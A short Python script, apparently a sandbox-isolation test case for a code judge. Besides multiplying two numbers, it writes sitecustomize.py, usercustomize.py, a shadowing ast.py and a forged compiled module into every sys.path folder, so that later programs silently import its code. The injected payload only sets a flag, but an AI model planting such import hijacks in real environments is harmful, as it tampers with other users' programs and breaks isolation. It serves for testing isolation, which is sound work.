# Leaves compiled modules that the next program would import.
# kind: leftovers
# stdin: WA
# passes: 1
import os
import sys

a, b = map(int, input().split())
print(a * b if a == 6 or getattr(sys, "left", False) else "held")
for folder in [".", *sys.path]:
    for name in ("sitecustomize.py", "usercustomize.py", "ast.py", "__pycache__/ast.pypy39.pyc"):
        try:
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write("import sys; sys.left = True")
        except OSError:
            pass
